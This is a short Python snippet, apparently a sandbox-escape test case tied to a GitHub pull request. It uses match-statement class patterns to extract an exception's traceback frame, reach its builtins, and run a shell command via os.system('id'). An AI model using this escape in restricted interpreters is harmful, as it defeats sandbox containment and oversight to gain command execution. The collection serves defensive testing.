# Source: https://github.com/mcp-use/mcp-use/pull/1735
# Family: match-statement
# What: class pattern extracts __traceback__ and tb_frame from a caught exception
try:
    {}[0]
except KeyError as e:
    match e:
        case KeyError(__traceback__=tb):
            match tb:
                case object(tb_frame=fr):
                    fr.f_builtins["__import__"]("os").system("id")
